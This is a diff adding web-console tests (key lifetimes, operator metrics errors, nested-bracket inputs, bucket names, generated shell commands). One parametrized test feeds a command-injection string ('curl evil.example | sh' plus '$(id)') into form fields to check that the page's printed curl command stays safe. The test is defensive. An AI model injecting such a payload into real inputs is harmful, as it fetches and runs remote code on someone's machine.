@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import html
+import json
 import re
+import shlex
 from datetime import UTC, datetime
 from urllib.parse import parse_qsl, quote, unquote, urlsplit
 
@@ -14,8 +17,10 @@ from botocore.credentials import Credentials
 from playwright.async_api import Page, expect
 
 from tests.rooms.api.served import Customer
-from tests.rooms.console.conftest import OPERATOR
+from tests.rooms.console.conftest import OPERATOR, PUBLIC_URL
 from tests.rooms.console.visits import Visitor, analysed_call
+from voxport.api.server_metrics import ServerMetrics
+from voxport.core.errors import TransientFault
 
 pytestmark = pytest.mark.asyncio(loop_scope="module")
 
@@ -129,6 +134,13 @@ async def test_a_key_that_was_made_manages_none(visitor: Visitor, customer: Cust
     assert visitor.post("/console/keys", life="600000").status_code == 403
 
 
+async def test_a_key_ends_when_it_was_said_to_or_is_not_made(visitor: Visitor, customer: Customer) -> None:
+    for fields in ({"life": "999"}, {"life": "null"}, {}):
+        answer = visitor.post("/console/keys", scope="usage:get", **fields)
+        assert (answer.status_code, "how long it is good" in answer.text) == (400, True)
+    assert len(customer.client.get("/v3/profile/keys").json()["keys"]) == 1
+
+
 async def test_operations_are_for_the_operator_alone(page: Page, customer: Customer) -> None:
     await page.get_by_role("link", name="Operations").click()
     for wrong in (customer.token, "wrong"):
@@ -143,6 +155,28 @@ async def test_operations_are_for_the_operator_alone(page: Page, customer: Custo
     await expect(page.get_by_role("row", name="10201 2")).to_be_visible()
     await page.get_by_role("button", name="Close").click()
     await expect(page.get_by_label("Operator's token")).to_be_visible()
+
+
+async def test_what_is_wrong_is_told_where_the_figures_cannot_be_read(
+    visitor: Visitor, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    visitor.post("/console/operations", token=OPERATOR)
+
+    async def away(_: ServerMetrics) -> bytes:
+        raise TransientFault("the database does not answer")
+
+    monkeypatch.setattr(ServerMetrics, "exposition", away)
+    answer = visitor.get("/console/operations")
+    assert answer.status_code == 503
+    assert "cannot be read" in answer.text
+    assert "<dt>database</dt>" in answer.text
+    assert "No worker is alive" not in answer.text
+
+
+async def test_a_definition_of_brackets_without_end_is_refused(visitor: Visitor) -> None:
+    for definition in ("[" * 200_000, '{"query": ' + "[" * 200_000, "7" * 5_000):
+        answer = visitor.post("/console/definitions/categories/try", name="a", definition=definition)
+        assert (answer.status_code, "no JSON object" in answer.text) == (400, True)
 
 
 async def test_delivery_to_a_bucket_is_set_up(page: Page, customer: Customer) -> None:
@@ -163,6 +197,18 @@ async def test_delivery_to_a_bucket_is_set_up(page: Page, customer: Customer) ->
     steps = page.get_by_label("Steps of the check").get_by_role("listitem")
     await expect(steps.first).to_contain_text("fails AssumeRole")
     await expect(steps.nth(1)).to_contain_text("left out PutObject")
+
+
+@pytest.mark.parametrize("field", ["bucket", "prefix", "region", "role"])
+async def test_a_link_to_the_page_writes_no_command(visitor: Visitor, field: str) -> None:
+    fields = {"bucket": "calls", field: "x'; curl evil.example | sh; echo $(id) `id` \" ;type=text/html '"}
+    found = re.search(r'aria-label="Command">(.*?)</pre>', visitor.get("/console/s3", **fields).text, re.DOTALL)
+    assert found is not None
+    words = shlex.split(html.unescape(found[1]).replace("\\\n", ""))
+    assert words[:5] == ["curl", "-s", "-H", "Authorization: Bearer $TOKEN", f"{PUBLIC_URL}v3/media"]
+    assert words[5:8] == ["-F", "media=@call.wav", "--form-string"]
+    assert json.loads(words[8].removeprefix("configuration="))["publish"]["callbacks"][0]["s3Delivery"] is True
+    assert len(words) == 9
 
 
 async def test_a_url_is_signed_in_the_browser_as_aws_signs_it(page: Page) -> None:
@@ -187,6 +233,10 @@ async def test_a_url_is_signed_in_the_browser_as_aws_signs_it(page: Page) -> Non
     assert signer.signature(signer.string_to_sign(request, canonical), request) == signature
     await page.get_by_label("Access key id").fill("AKIDEXAMPLE")
     await page.get_by_label("Secret access key").fill("a/secret+key")
+    for bucket in ("evil.example/x?", "Calls", "a"):
+        await page.get_by_label("Bucket").last.fill(bucket)
+        await page.get_by_role("button", name="Sign it").click()
+        await expect(page.locator("#signed")).to_contain_text("no name of a bucket")
     await page.get_by_label("Bucket").last.fill("calls")
     await page.get_by_role("button", name="Sign it").click()
     await expect(page.get_by_label("Signed callback")).to_contain_text("X-Amz-Signature=")
